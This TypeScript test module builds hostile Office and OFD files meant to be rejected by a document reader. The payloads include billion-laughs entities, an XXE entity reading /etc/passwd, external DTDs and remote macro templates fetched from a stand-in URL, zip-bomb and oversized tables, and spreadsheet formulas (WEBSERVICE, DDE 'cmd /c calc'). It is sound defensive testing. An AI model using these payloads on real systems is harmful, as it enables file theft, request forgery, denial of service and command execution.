import { packZip } from '../../../src/readers/zip/pack.ts';
import { p, parts, tbl, tc, tr } from '../../readers/docx/build.ts';
import { file as ofdFile } from '../../readers/ofd/build.ts';
import { rows, xlsx } from '../../readers/xlsx/build.ts';
import { zip } from '../../support/zip.ts';
import { type Trick, trick, utf8 } from './trick.ts';

const OFFICE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const DOCUMENT = 'word/document.xml';

/** A Word file with other texts in the place of some of its parts. */
const docx = (body: string, changed: Readonly<Record<string, string>> = {}): Uint8Array =>
  packZip(new Map([...parts(body), ...Object.entries(changed).map(([name, xml]) => [name, utf8(xml)] as const)]));

/** The main part of a Word file, with a document type before it. */
function declared(type: string, body: string): string {
  const main = parts(body).get(DOCUMENT);
  return `<?xml version="1.0"?>${type}${new TextDecoder().decode(main)}`;
}

const laughs = Array.from({ length: 9 }, (_, at) => `<!ENTITY l${at + 1} "${`&l${at};`.repeat(10)}">`).join('');
const withType = (type: string, entity: string) => docx('', { [DOCUMENT]: declared(type, p(entity)) });

const outside = (type: string, url: string) =>
  `<Relationship Id="x${type}" Type="${OFFICE}/${type}" TargetMode="External" Target="${url}"/>`;
const relationships = (list: string) =>
  `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${list}</Relationships>`;
const linkedPicture =
  '<w:p><w:r><w:drawing><wp:inline><wp:extent cx="900000" cy="900000"/><a:graphic><a:graphicData>' +
  '<a:blip r:link="ximage"/></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>';

/** A Word file that wants a picture, a template and a frame from elsewhere. */
const calling = (url: string) =>
  docx(linkedPicture + tbl(tr('a', 'b')), {
    'word/_rels/document.xml.rels': relationships(
      outside('image', `${url}/picture.png`) + outside('attachedTemplate', `${url}/macro.dotm`) + outside('frame', url),
    ),
  });

const cells = (count: number, across: number) => tbl(tr(...Array(across).fill('1')).repeat(count / across));
const sheet = (content: string) => xlsx([{ name: 's', content }]);
const formula = (text: string) => `<c><f>${text}</f><v>1</v></c>`;

/** Office files and others made of XML; `url` is a server that must never be called. */
export const office = (url: string): readonly Trick[] => [
  trick(
    'entities that multiply',
    'laughs.docx',
    withType(`<!DOCTYPE d [<!ENTITY l0 "ha">${laughs}]>`, '&l9;'),
    'broken-file',
  ),
  trick(
    'an entity that is a file',
    'entity.docx',
    withType('<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>', '&x;'),
    'broken-file',
  ),
  trick(
    'entities and a document type that lie elsewhere',
    'dtd.docx',
    withType(`<!DOCTYPE d SYSTEM "${url}/d.dtd" [<!ENTITY % x SYSTEM "${url}/x"> %x;]>`, 'x'),
    'broken-file',
  ),
  trick('pictures, templates and frames that lie elsewhere', 'calling.docx', calling(url), 'no-form'),
  trick('a Word table of 300,000 cells', 'cells.docx', docx(cells(300_000, 100)), 'too-large'),
  trick(
    'tables in tables, a thousand deep',
    'deep.docx',
    docx(Array.from({ length: 1000 }).reduce<string>((inner) => tbl(`<w:tr>${tc(inner + p('x'))}</w:tr>`), p('x'))),
    'too-large',
  ),
  trick(
    'a cell that claims to be as wide as a city',
    'wide.docx',
    docx(tbl(`<w:tr>${tc('x', '<w:gridSpan w:val="2000000000"/>')}</w:tr>`)),
    'no-form',
  ),
  trick(
    'a part that packs much into little',
    'dense.docx',
    zip([...parts(p(' '.repeat(30_000_000)))].map(([name, content]) => ({ name, content }))),
    'too-large',
  ),
  trick('a sheet of 300,000 cells', 'cells.xlsx', sheet(rows(...Array(30_000).fill(Array(10).fill(1)))), 'too-large'),
  trick(
    'a sheet that reaches to the last cell there is',
    'far.xlsx',
    sheet(
      '<sheetData><row r="1048576"><c r="XFD1048576"><v>1</v></c></row><row r="1"><c r="A1"><v>1</v></c></row></sheetData>',
    ),
    'too-large',
  ),
  trick(
    'formulas that call and start programs',
    'formulas.xlsx',
    sheet(
      `<sheetData><row>${formula(`WEBSERVICE("${url}/cell")`)}${formula(`HYPERLINK("${url}")`)}${formula("cmd|'/c calc'!A1")}</row></sheetData>`,
    ),
    'no-form',
  ),
  trick(
    'an entity in an OFD',
    'entity.ofd',
    packZip([['OFD.xml', utf8(`<!DOCTYPE d [<!ENTITY x SYSTEM "${url}/x">]>${ofdFile('ofd:OFD', '&x;')}`)]]),
    'broken-file',
  ),
];
